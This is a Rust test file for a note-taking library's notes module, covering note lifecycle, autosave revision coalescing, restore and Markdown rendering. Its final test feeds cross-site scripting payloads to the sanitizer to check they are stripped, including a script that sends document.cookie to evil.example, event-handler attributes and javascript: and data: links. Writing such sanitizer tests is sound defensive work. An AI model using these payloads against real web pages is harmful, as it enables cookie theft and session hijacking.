//! Notes: create, save, list and filter, archive, delete; history that
//! coalesces autosaves without losing anything; safe Markdown rendering.

use chrono::{DateTime, Duration, TimeZone, Utc};
use redline::notes::{self, NoteFilter};
use redline::Db;

async fn library() -> (tempfile::TempDir, Db) {
    let dir = tempfile::tempdir().unwrap();
    let db = Db::open(dir.path().join("library.db")).await.unwrap();
    (dir, db)
}

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 26, 22, 0, 0).unwrap()
}

async fn project(db: &Db, name: &str) -> i64 {
    let mut tx = db.write().await.unwrap();
    let id = sqlx::query("INSERT INTO projects (name, created_at, updated_at) VALUES (?, ?, ?)")
        .bind(name)
        .bind("2026-11-26T21:00:00.000Z")
        .bind("2026-11-26T21:00:00.000Z")
        .execute(&mut *tx)
        .await
        .unwrap()
        .last_insert_rowid();
    tx.commit().await.unwrap();
    id
}

const DRAFT: &str = "## Geneva talks\n\nThe ministry first put the toll at 30,000.\n";

#[tokio::test]
async fn create_save_get_list_filter_archive_delete() {
    let (_dir, db) = library().await;
    let summit = project(&db, "Geneva summit").await;
    let beat = project(&db, "Korea beat").await;

    let a = notes::create_at(&db, "Geneva talks", DRAFT, t0())
        .await
        .unwrap();
    assert_eq!(a.title, "Geneva talks");
    assert_eq!(a.body, DRAFT);
    assert_eq!(a.created_at, "2026-11-26T22:00:00.000Z");
    assert!(!a.archived);
    let b = notes::create_at(
        &db,
        "평양 발표 메모",
        "조선중앙통신 보도 요약",
        t0() + Duration::seconds(5),
    )
    .await
    .unwrap();
    let c = notes::create_at(
        &db,
        "Sources to call",
        "- [ ] UNHCR press office",
        t0() + Duration::seconds(9),
    )
    .await
    .unwrap();

    let saved = notes::save_at(
        &db,
        a.id,
        "Geneva talks, day 2",
        "Extended by 30 days.",
        t0() + Duration::seconds(20),
    )
    .await
    .unwrap();
    assert_eq!(saved.title, "Geneva talks, day 2");
    assert_eq!(saved.updated_at, "2026-11-26T22:00:20.000Z");
    assert_eq!(notes::get(&db, a.id).await.unwrap(), saved);

    {
        let mut tx = db.write().await.unwrap();
        notes::set_projects(&mut tx, a.id, &[summit, beat])
            .await
            .unwrap();
        notes::set_projects(&mut tx, b.id, &[beat]).await.unwrap();
        notes::add_tag(&mut tx, a.id, "ceasefire").await.unwrap();
        notes::add_tag(&mut tx, a.id, "UNHCR").await.unwrap();
        notes::add_tag(&mut tx, b.id, "Ceasefire").await.unwrap();
        notes::add_tag(&mut tx, b.id, "KCNA").await.unwrap();
        notes::remove_tag(&mut tx, b.id, "kcna").await.unwrap();
        tx.commit().await.unwrap();
    }
    let a = notes::get(&db, a.id).await.unwrap();
    assert_eq!(a.project_ids, vec![summit, beat]);
    assert_eq!(a.tags, vec!["ceasefire", "UNHCR"]);
    let b = notes::get(&db, b.id).await.unwrap();
    assert_eq!(b.tags, vec!["ceasefire"]);

    let ids = |v: Vec<notes::Note>| v.iter().map(|n| n.id).collect::<Vec<_>>();
    // Most recently edited first.
    assert_eq!(
        ids(notes::list(&db, &NoteFilter::default()).await.unwrap()),
        vec![a.id, c.id, b.id]
    );
    let in_beat = NoteFilter {
        project_id: Some(beat),
        ..Default::default()
    };
    assert_eq!(
        ids(notes::list(&db, &in_beat).await.unwrap()),
        vec![a.id, b.id]
    );
    let in_summit = NoteFilter {
        project_id: Some(summit),
        ..Default::default()
    };
    assert_eq!(ids(notes::list(&db, &in_summit).await.unwrap()), vec![a.id]);
    let tagged = NoteFilter {
        tag: Some("CEASEFIRE".into()),
        ..Default::default()
    };
    assert_eq!(
        ids(notes::list(&db, &tagged).await.unwrap()),
        vec![a.id, b.id]
    );
    let both = NoteFilter {
        project_id: Some(summit),
        tag: Some("ceasefire".into()),
        include_archived: false,
    };
    assert_eq!(ids(notes::list(&db, &both).await.unwrap()), vec![a.id]);

    // Moving a note out of a project.
    {
        let mut tx = db.write().await.unwrap();
        notes::set_projects(&mut tx, a.id, &[summit]).await.unwrap();
        tx.commit().await.unwrap();
        // An unknown project fails; the caller's transaction is rolled back.
        let mut tx = db.write().await.unwrap();
        assert_eq!(
            notes::set_projects(&mut tx, a.id, &[9999])
                .await
                .unwrap_err()
                .code(),
            "not_found"
        );
    }
    assert_eq!(ids(notes::list(&db, &in_beat).await.unwrap()), vec![b.id]);

    let archived = notes::set_archived(&db, c.id, true).await.unwrap();
    assert!(archived.archived);
    assert_eq!(
        ids(notes::list(&db, &NoteFilter::default()).await.unwrap()),
        vec![a.id, b.id]
    );
    let all = NoteFilter {
        include_archived: true,
        ..Default::default()
    };
    assert_eq!(
        ids(notes::list(&db, &all).await.unwrap()),
        vec![a.id, c.id, b.id]
    );

    notes::delete(&db, a.id).await.unwrap();
    assert_eq!(notes::get(&db, a.id).await.unwrap_err().code(), "not_found");
    assert_eq!(
        notes::history(&db, a.id).await.unwrap_err().code(),
        "not_found"
    );
    assert_eq!(
        notes::delete(&db, a.id).await.unwrap_err().code(),
        "not_found"
    );
    let left: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM note_revisions WHERE note_id = ?")
        .bind(a.id)
        .fetch_one(db.pool())
        .await
        .unwrap();
    assert_eq!(left, 0);
    assert_eq!(
        notes::save(&db, a.id, "x", "y").await.unwrap_err().code(),
        "not_found"
    );
}

#[tokio::test]
async fn autosaves_coalesce_into_bursts_and_keep_every_final_state() {
    let (_dir, db) = library().await;
    let at = |s: i64| t0() + Duration::seconds(s);
    let n = notes::create_at(&db, "Casualty figures", "", at(0))
        .await
        .unwrap();

    // Typing with an autosave every second: one revision.
    let sentence = "The ministry first put the toll at 30,000.";
    for (i, _) in sentence.char_indices().skip(1).step_by(5) {
        notes::save_at(
            &db,
            n.id,
            "Casualty figures",
            &sentence[..i],
            at(1 + i as i64 / 5),
        )
        .await
        .unwrap();
    }
    notes::save_at(&db, n.id, "Casualty figures", sentence, at(10))
        .await
        .unwrap();
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(h.len(), 1);
    assert_eq!(h[0].body, sentence);
    assert_eq!(h[0].burst_started_at, "2026-11-26T22:00:00.000Z");
    assert_eq!(h[0].saved_at, "2026-11-26T22:00:10.000Z");

    // Saving the same text again changes nothing.
    let same = notes::save_at(&db, n.id, "Casualty figures", sentence, at(15))
        .await
        .unwrap();
    assert_eq!(same.updated_at, "2026-11-26T22:00:10.000Z");
    assert_eq!(notes::history(&db, n.id).await.unwrap(), h);

    // A pause longer than a minute starts a new revision.
    let second = format!("{sentence} On Friday it said 10,000.");
    notes::save_at(&db, n.id, "Casualty figures", &second, at(10 + 61))
        .await
        .unwrap();
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(
        h.iter().map(|r| r.body.as_str()).collect::<Vec<_>>(),
        vec![second.as_str(), sentence]
    );

    // Steady typing every 30 s: a burst never spans ten minutes.
    let mut body = second.clone();
    for k in 1..=20 {
        body.push_str(" More.");
        notes::save_at(&db, n.id, "Casualty figures", &body, at(71 + 30 * k))
            .await
            .unwrap();
    }
    // Burst began at 71 s; saves at 101 … 641 join (< 600 s after 71), 671 starts anew.
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(h.len(), 3);
    assert_eq!(h[0].burst_started_at, "2026-11-26T22:11:11.000Z");
    assert_eq!(h[0].body, body);
    assert_eq!(h[1].saved_at, "2026-11-26T22:10:41.000Z");
    assert_eq!(h[1].body.matches(" More.").count(), 19);

    // Deleting a paragraph seconds later still keeps the text before it.
    let long = format!("{body}\n\nKCNA said the talks were “a farce staged by the puppets”, and accused the delegation of lying about the figures.");
    notes::save_at(&db, n.id, "Casualty figures", &long, at(675))
        .await
        .unwrap();
    notes::save_at(&db, n.id, "Casualty figures", &body, at(680))
        .await
        .unwrap();
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(h.len(), 4);
    assert_eq!(h[0].body, body);
    assert_eq!(h[1].body, long);
}

#[tokio::test]
async fn restore_is_a_new_revision_that_keeps_what_it_replaced() {
    let (_dir, db) = library().await;
    let at = |s: i64| t0() + Duration::seconds(s);
    let n = notes::create_at(&db, "Lede", "First draft of the lede.", at(0))
        .await
        .unwrap();
    notes::save_at(&db, n.id, "Lede", "Second draft, much tighter.", at(120))
        .await
        .unwrap();
    let first = notes::history(&db, n.id).await.unwrap()[1].clone();
    assert_eq!(first.body, "First draft of the lede.");

    // Seconds after the last save, yet the restore does not coalesce.
    let restored = notes::restore_at(&db, n.id, first.id, at(125))
        .await
        .unwrap();
    assert_eq!(restored.body, "First draft of the lede.");
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(
        h.iter().map(|r| r.body.as_str()).collect::<Vec<_>>(),
        vec![
            "First draft of the lede.",
            "Second draft, much tighter.",
            "First draft of the lede."
        ]
    );
    // Typing right after a restore continues that revision.
    notes::save_at(
        &db,
        n.id,
        "Lede",
        "First draft of the lede, revised.",
        at(130),
    )
    .await
    .unwrap();
    let h = notes::history(&db, n.id).await.unwrap();
    assert_eq!(h.len(), 3);
    assert_eq!(h[0].body, "First draft of the lede, revised.");

    assert_eq!(
        notes::restore(&db, n.id, 9999).await.unwrap_err().code(),
        "not_found"
    );
    let other = notes::create(&db, "Other", "x").await.unwrap();
    // A revision of another note cannot be restored here.
    assert_eq!(
        notes::restore(&db, other.id, first.id)
            .await
            .unwrap_err()
            .code(),
        "not_found"
    );
}

#[test]
fn markdown_extensions_render() {
    let md = "| City | Displaced |\n| --- | ---: |\n| Kherson | 30,000 |\n\n\
              Talks ~~failed~~ resumed.[^1]\n\n\
              - [x] Call UNHCR\n- [ ] Check KCNA wording\n\n\
              [^1]: Per the ministry's 23:05 UTC statement.\n";
    assert_eq!(
        notes::render_markdown(md),
        "<table><thead><tr><th>City</th><th>Displaced</th></tr></thead><tbody>\n\
         <tr><td>Kherson</td><td>30,000</td></tr>\n</tbody></table>\n\
         <p>Talks <del>failed</del> resumed.<sup class=\"footnote-reference\"><a href=\"#note-1\" rel=\"noopener noreferrer\">1</a></sup></p>\n\
         <ul>\n<li><input disabled=\"\" type=\"checkbox\" checked=\"\">\nCall UNHCR</li>\n\
         <li><input disabled=\"\" type=\"checkbox\">\nCheck KCNA wording</li>\n</ul>\n\
         <div class=\"footnote-definition\" id=\"note-1\"><sup class=\"footnote-definition-label\">1</sup>\n\
         <p>Per the ministry's 23:05 UTC statement.</p>\n</div>\n"
    );
}

#[test]
fn hostile_markdown_renders_inert() {
    let md = "Statement <script>fetch('https://evil.example/?c='+document.cookie)</script> ends.\n\n\
              <img src=\"x.png\" onerror=\"alert(1)\">\n\n\
              [click me](javascript:alert(1)) and <a href=\"JaVaScRiPt:alert(2)\">this</a>\n\n\
              <iframe src=\"https://evil.example\"></iframe><svg onload=alert(3)></svg>\n\n\
              <a href=\"data:text/html;base64,PHNjcmlwdD4=\">data</a> <a href=\"redline://version/4\">ok</a>\n";
    let html = notes::render_markdown(md);
    for bad in [
        "<script",
        "fetch(",
        "onerror",
        "javascript",
        "JaVaScRiPt",
        "<iframe",
        "<svg",
        "onload",
        "data:text",
    ] {
        assert!(!html.contains(bad), "{bad} survived in {html}");
    }
    assert_eq!(
        html,
        "<p>Statement  ends.</p>\n<img src=\"x.png\">\n\
         <p><a rel=\"noopener noreferrer\">click me</a> and <a rel=\"noopener noreferrer\">this</a></p>\n\
         \n<p><a rel=\"noopener noreferrer\">data</a> <a href=\"redline://version/4\" rel=\"noopener noreferrer\">ok</a></p>\n"
    );
}
